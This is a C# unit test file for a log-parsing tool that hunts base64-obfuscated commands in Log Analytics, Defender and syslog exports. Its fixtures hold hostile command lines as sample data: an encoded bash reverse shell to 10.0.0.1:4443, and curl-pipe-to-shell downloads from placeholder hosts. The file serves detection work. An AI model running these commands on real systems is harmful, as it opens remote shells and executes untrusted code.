using System;
using System.IO;
using System.Linq;
using System.Text;
using B64Hunt.Errors;
using B64Hunt.Model;
using B64Hunt.Sources;
using Xunit;
using static B64Hunt.Tests.Sources.SourceTestSupport;

namespace B64Hunt.Tests.Sources
{
    public class TableReaderTests
    {
        private const string B64 = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQzIDA+JjE=";
        private const string AuomsCmdline = "bash -c \"{echo," + B64 + "}|{base64,-d}|{bash,-i}\"";

        [Fact]
        public void LogAnalyticsSyslogCsvExportParsesSyslogMessageAndReassemblesAuditdRows()
        {
            string path = Fixture("la-syslog-export.csv");
            var result = Read(path);
            Assert.Empty(result.Problems);
            Assert.Equal(2, result.Records.Count);

            var auoms = result.Records[0];
            Assert.Equal(AuomsCmdline, auoms.CommandLine);
            Assert.Equal(Utc("2024-03-01T12:00:01.869Z"), auoms.TimeGenerated); // "TimeGenerated [UTC]" portal format
            Assert.Equal(DateTimeKind.Utc, auoms.TimeGenerated!.Value.Kind);
            Assert.Equal("web01", auoms.Computer);
            Assert.Equal("root", auoms.Account);
            Assert.Equal(path + ":2", auoms.Source);

            var auditd = result.Records[1];
            Assert.Equal("sh -c echo ZWNobyBoaQ== | base64 -d | sh", auditd.CommandLine);
            Assert.Equal("web02", auditd.Computer);
            Assert.Equal("uid=1000", auditd.Account);
            Assert.Equal(path + ":4", auditd.Source);
            Assert.Equal(1, result.Stats.LinesSkipped); // the systemd row
        }

        [Fact]
        public void DeviceProcessEventsCsvWithQuotedMultiLineCommand()
        {
            string path = Fixture("deviceprocessevents.csv");
            var result = Read(path);
            var records = result.Records;
            Assert.Equal(3, records.Count);

            Assert.Equal("bash -c \"echo Y3VybCBodHRwOi8vMTAuMC4wLjEveC5zaCB8IHNo | base64 -d | sh\"", records[0].CommandLine);
            Assert.Equal("vm1.contoso.com", records[0].Computer);
            Assert.Equal("root", records[0].Account);
            Assert.Equal(Utc("2024-03-01T12:00:01.1234567Z"), records[0].TimeGenerated);
            Assert.Equal(path + ":2", records[0].Source);

            // ProcessCommandLine wins over InitiatingProcessCommandLine; a newline inside quotes stays.
            Assert.Equal("python3 -c \"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\"", records[1].CommandLine);
            Assert.Equal(path + ":3", records[1].Source);

            Assert.Equal("id", records[2].CommandLine);
            Assert.Equal(path + ":7", records[2].Source);

            var problem = Assert.Single(result.Problems);
            Assert.Equal(ErrorIds.MalformedRow, problem.ErrorId);
            Assert.Equal(path + ":6", problem.Target);
            Assert.Equal(1, result.Stats.LinesSkipped); // the empty ProcessCommandLine
            Assert.Equal(7, result.Stats.LinesRead);
        }

        [Fact]
        public void CsvWithoutCommandColumnReportsOnceWithThePathAsTarget()
        {
            string path = Fixture("no-command-column.csv");
            var result = Read(path);
            var problem = Assert.Single(result.Items).Problem!;
            Assert.Equal(ErrorIds.MissingCommandLineColumn, problem.ErrorId);
            Assert.Equal(ProblemKind.InvalidData, problem.Kind);
            Assert.Equal(path, problem.Target);
        }

        [Fact]
        public void CsvUnterminatedQuoteAtTheEndIsAMalformedRow()
        {
            string csv = "CommandLine,Computer\n\"echo a\",h1\n\"echo b, never closed\n";
            var result = ReadBytes(Encoding.UTF8.GetBytes(csv), "u.csv", new LogReadOptions { Format = LogFormat.Csv });
            Assert.Equal("echo a", Assert.Single(result.Records).CommandLine);
            var problem = Assert.Single(result.Problems);
            Assert.Equal(ErrorIds.MalformedRow, problem.ErrorId);
            Assert.Equal("u.csv:3", problem.Target);
        }

        [Fact]
        public void CsvWithCrLfDoubledQuotesAndGenericColumnNames()
        {
            string csv = "\"host\",\"cmd\",\"user\",\"time\"\r\nh1,\"echo \"\"x,y\"\" | base64 -d\",alice,2024-03-01T00:00:00Z\r\n";
            var record = Assert.Single(ReadBytes(Encoding.UTF8.GetBytes(csv), "g.csv").Records);
            Assert.Equal("echo \"x,y\" | base64 -d", record.CommandLine);
            Assert.Equal("h1", record.Computer);
            Assert.Equal("alice", record.Account);
            Assert.Equal(Utc("2024-03-01T00:00:00Z"), record.TimeGenerated);
        }

        [Fact]
        public void Utf16CsvFromWindowsPowerShellIsRead()
        {
            string csv = "\"TimeGenerated\",\"Computer\",\"CommandLine\"\r\n\"2024-03-01T00:00:00Z\",\"h1\",\"echo aGk= | base64 -d\"\r\n";
            byte[] bytes = Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes(csv)).ToArray();
            var record = Assert.Single(ReadBytes(bytes, "w.csv").Records);
            Assert.Equal("echo aGk= | base64 -d", record.CommandLine);
        }

        [Fact]
        public void JsonArrayOfObjectsUsesProcessCommandLineAndSyslogMessage()
        {
            string path = Fixture("array.json");
            var result = Read(path);
            Assert.Empty(result.Problems);
            var records = result.Records;
            Assert.Equal(3, records.Count);
            Assert.StartsWith("bash -c \"echo Y3Vyb", records[0].CommandLine);
            Assert.Equal("vm1", records[0].Computer);
            Assert.Equal("root", records[0].Account);
            Assert.Equal(Utc("2024-03-01T12:00:01Z"), records[0].TimeGenerated);
            Assert.Equal(path + ":2", records[0].Source); // the line the element starts on
            Assert.Equal("id", records[1].CommandLine);
            Assert.Null(records[1].Account);
            Assert.Equal(AuomsCmdline, records[2].CommandLine);
            Assert.Equal("web01", records[2].Computer);
            Assert.Equal(3, result.Stats.LinesRead);
        }

        [Fact]
        public void LogAnalyticsRestShapeStreamsRowsOfEveryTable()
        {
            string path = Fixture("la-rest.json");
            var result = Read(path);
            Assert.Equal(2, result.Records.Count);
            Assert.Equal(AuomsCmdline, result.Records[0].CommandLine);
            Assert.Equal(Utc("2024-03-01T12:00:01.869Z"), result.Records[0].TimeGenerated);
            Assert.Equal("web01", result.Records[0].Computer);
            Assert.Equal("sh -c \"echo aWQ= | base64 -d | sh\"", result.Records[1].CommandLine);
            Assert.Equal("vm9", result.Records[1].Computer);
            Assert.Equal("bob", result.Records[1].Account);
            var problem = Assert.Single(result.Problems); // the short third row
            Assert.Equal(ErrorIds.MalformedRow, problem.ErrorId);
            Assert.Equal(path + ":1", problem.Target);
            Assert.Equal(1, result.Stats.LinesSkipped); // the systemd row
        }

        [Fact]
        public void LogAnalyticsTableWithoutCommandColumnReportsMissingColumn()
        {
            string json = "{\"tables\":[{\"name\":\"PrimaryResult\",\"columns\":[{\"name\":\"TimeGenerated\",\"type\":\"datetime\"},{\"name\":\"AlertName\",\"type\":\"string\"}],\"rows\":[[\"2024-03-01T00:00:00Z\",\"x\"],[\"2024-03-01T00:00:00Z\",\"y\"]]}]}";
            var result = ReadBytes(Encoding.UTF8.GetBytes(json), "alerts.json");
            var problem = Assert.Single(result.Items).Problem!;
            Assert.Equal(ErrorIds.MissingCommandLineColumn, problem.ErrorId);
            Assert.Equal("alerts.json", problem.Target);
            Assert.Equal(2, result.Stats.LinesSkipped);
        }

        [Fact]
        public void DefenderAdvancedHuntingResultsShape()
        {
            string json = "{\"Schema\":[{\"Name\":\"Timestamp\",\"Type\":\"DateTime\"}],\"Results\":[{\"Timestamp\":\"2024-03-01T00:00:00Z\",\"DeviceName\":\"d1\",\"ProcessCommandLine\":\"echo aGk= | base64 -d\",\"AccountName\":\"root\"}]}";
            var record = Assert.Single(ReadBytes(Encoding.UTF8.GetBytes(json), "ah.json").Records);
            Assert.Equal("echo aGk= | base64 -d", record.CommandLine);
            Assert.Equal("d1", record.Computer);
        }

        [Fact]
        public void NullProcessCommandLineDoesNotFallBackToTheParentCommandLine()
        {
            string json = "[{\"ProcessCommandLine\":null,\"InitiatingProcessCommandLine\":\"bash -c 'echo aGk= | base64 -d'\"},{\"InitiatingProcessCommandLine\":\"sh -c id\"}]";
            var result = ReadBytes(Encoding.UTF8.GetBytes(json), "p.json");
            // Only a table without a better column uses the initiating (parent) command line.
            Assert.Equal("sh -c id", Assert.Single(result.Records).CommandLine);
            Assert.Equal(1, result.Stats.LinesSkipped);
        }

        [Fact]
        public void SingleObjectFileIsOneRow()
        {
            string json = "{\n  \"cmdline\": \"echo aGk= | base64 -d\",\n  \"hostname\": \"h\",\n  \"user\": \"root\"\n}\n";
            var record = Assert.Single(ReadBytes(Encoding.UTF8.GetBytes(json), "one.json").Records);
            Assert.Equal("echo aGk= | base64 -d", record.CommandLine);
            Assert.Equal("h", record.Computer);
            Assert.Equal("root", record.Account);
        }

        [Fact]
        public void MalformedArrayElementIsReportedAndTheRestIsRead()
        {
            string json = "[\n{\"CommandLine\":\"a\"},\n{\"CommandLine\": oops},\n{\"CommandLine\":\"b\"},\n42\n]";
            var result = ReadBytes(Encoding.UTF8.GetBytes(json), "bad.json");
            Assert.Equal(new[] { "a", "b" }, result.Records.Select(r => r.CommandLine));
            Assert.Equal(2, result.Problems.Count);
            Assert.Equal(ErrorIds.MalformedJson, result.Problems[0].ErrorId);
            Assert.Equal("bad.json:3", result.Problems[0].Target);
            Assert.Contains("byte offset 23", result.Problems[0].Message);
            Assert.Equal(ErrorIds.MalformedRow, result.Problems[1].ErrorId);
            Assert.Equal("bad.json:5", result.Problems[1].Target);
        }

        [Fact]
        public void TruncatedJsonKeepsWhatWasReadAndReportsMalformedJson()
        {
            string json = "[{\"CommandLine\":\"a\"},{\"CommandLine\":\"b\"},{\"Comm";
            var result = ReadBytes(Encoding.UTF8.GetBytes(json), "cut.json");
            Assert.Equal(new[] { "a", "b" }, result.Records.Select(r => r.CommandLine));
            var problem = Assert.Single(result.Problems);
            Assert.Equal(ErrorIds.MalformedJson, problem.ErrorId);
            Assert.Equal("cut.json:1", problem.Target);
        }

        [Fact]
        public void JsonWithoutCommandPropertyReportsMissingColumnOnce()
        {
            string json = "[{\"a\":1},{\"a\":2},{\"CommandLine\":\"x\"}]";
            var result = ReadBytes(Encoding.UTF8.GetBytes(json), "m.json");
            Assert.Equal("x", Assert.Single(result.Records).CommandLine);
            var problem = Assert.Single(result.Problems);
            Assert.Equal(ErrorIds.MissingCommandLineColumn, problem.ErrorId);
            Assert.Equal("m.json", problem.Target);
        }

        [Fact]
        public void JsonLinesReadsEachLineAndReportsBadOnes()
        {
            string path = Fixture("rows.jsonl");
            var result = Read(path);
            Assert.Equal(3, result.Records.Count);
            Assert.Equal("echo aGVsbG8= | base64 -d", result.Records[0].CommandLine);
            Assert.Equal(path + ":1", result.Records[0].Source);
            Assert.Equal(AuomsCmdline, result.Records[1].CommandLine);
            Assert.Equal(Utc("2024-03-01T12:00:03Z"), result.Records[1].TimeGenerated); // the row's time wins
            Assert.Equal(path + ":4", result.Records[1].Source);
            Assert.Equal("curl http://198.51.100.2/a.sh | sh", result.Records[2].CommandLine);
            Assert.Equal("web03", result.Records[2].Computer);
            Assert.Equal("carol", result.Records[2].Account);
            Assert.Equal(Utc(1709294405000), result.Records[2].TimeGenerated); // epoch seconds

            Assert.Equal(new[] { (ErrorIds.MalformedJson, path + ":2"), (ErrorIds.MalformedRow, path + ":5") },
                result.Problems.Select(p => (p.ErrorId, (string)p.Target!)));
        }

        [Fact]
        public void TableFiltersCountFilteredRows()
        {
            var options = new LogReadOptions { CommandLineByteFilter = b => b.IndexOf("base64"u8) >= 0 };
            var result = Read(Fixture("deviceprocessevents.csv"), options);
            Assert.Equal(2, result.Records.Count);
            Assert.Equal(1, result.Stats.RecordsFiltered); // "id"
        }
    }
}
